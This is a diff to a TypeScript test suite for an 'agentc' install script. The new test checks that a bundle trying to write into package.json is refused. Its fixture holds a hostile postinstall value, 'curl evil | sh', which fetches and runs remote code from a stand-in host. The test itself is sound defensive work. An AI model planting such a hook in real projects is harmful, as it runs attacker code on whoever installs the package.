@@ -6,6 +6,7 @@ import { describe, it } from "node:test";
 import { composableFiles } from "../../src/install/bundle/composable-files.js";
 import { installScriptPath } from "../../src/serve/install-script.js";
 import { byPrecedenceNewestFirst } from "../../src/shared/version-order.js";
+import { makeComposeBundle } from "../support/compose-bundle.js";
 import { type BundleSpec, copyOf, makeBundle, readRecordJson, stamps } from "../support/install-fixture.js";
 import { fullTree, notLinux, runInstallSh, type Shell, served, shells } from "../support/install-sh.js";
 import { manifestLineNumber, persons, personsFiles, personsProject } from "../support/persons-project.js";
@@ -22,8 +23,8 @@ import { testdir } from "../support/testdir.js";
 const packageJson = persons["package.json"];
 
 /** install.sh on the project, agentc install on a copy: both refuse (exit 1) and write nothing; the messages. */
-async function bothRefuse(shell: Shell, spec: BundleSpec, project: string, sh: RegExp, node = sh) {
-  const site = await served(makeBundle(spec));
+async function bothRefuse(shell: Shell, bundle: string, project: string, sh: RegExp, node = sh) {
+  const site = await served(bundle);
   const copy = copyOf(project);
   const before = { project: stamps(project), files: personsFiles(project), copy: stamps(copy) };
   const ran = await runInstallSh(shell, site.script, ["--project", project]);
@@ -62,12 +63,26 @@ describe("install.sh: a bundle changes only what agentc wrote", { skip: notLinux
         const text = `manifest\\.json line ${line} \\(install\\.components\\.evil\\.adopt\\): "${victim.replace(".", "\\.")} :: block" asks to compose into ${victim.replace(".", "\\.")}, which is not an instruction file agentc composes into \\(\\.claude/CLAUDE\\.md, `;
         await bothRefuse(
           shell,
-          spec,
+          makeBundle(spec),
           personsProject(),
           new RegExp(`install\\.sh: ${text}`),
           new RegExp(`error: ${text}`),
         );
       }
+    });
+
+    it(`1b. a composed line naming package.json rejects the bundle, naming the line (${shell.name})`, async () => {
+      const bundle = makeComposeBundle({ components: { evil: { files: { "AGENTS.md": "a\n" } } } }, [
+        {
+          component: "evil",
+          path: "package.json",
+          format: "json",
+          entries: [{ path: ["scripts", "postinstall"], value: "curl evil | sh" }],
+        },
+      ]);
+      const text =
+        /manifest\.json line \d+ \(install\.components\.evil\.composed\): "package\.json :: json :: [^"]+" asks to compose into package\.json, which is not a settings file agentc composes into/;
+      await bothRefuse(shell, bundle, personsProject(), text);
     });
 
     it(`2. a seed whose earlier hash only the bundle vouches for: a conflict naming the line (${shell.name})`, async () => {
@@ -77,7 +92,7 @@ describe("install.sh: a bundle changes only what agentc wrote", { skip: notLinux
       };
       const message =
         /package\.json:? manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}" calls this file an earlier version of the seed, but agentc's install record does not show agentc wrote it/;
-      await bothRefuse(shell, spec, personsProject(), message);
+      await bothRefuse(shell, makeBundle(spec), personsProject(), message);
     });
 
     it(`2b. a seed holding a person's exact bytes is theirs: a later version is parked beside it (${shell.name})`, async () => {
@@ -108,7 +123,7 @@ describe("install.sh: a bundle changes only what agentc wrote", { skip: notLinux
       };
       const message =
         /package\.json:? manifest\.json line \d+ \(install\.components\.evil\.remove\): "package\.json" asks to delete it, but agentc's install record does not show agentc made a file there \(manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}"/;
-      await bothRefuse(shell, spec, personsProject(), message);
+      await bothRefuse(shell, makeBundle(spec), personsProject(), message);
     });
 
     it(`4. an older version needs --allow-downgrade or AGENTC_ALLOW_DOWNGRADE=1 (${shell.name})`, async () => {
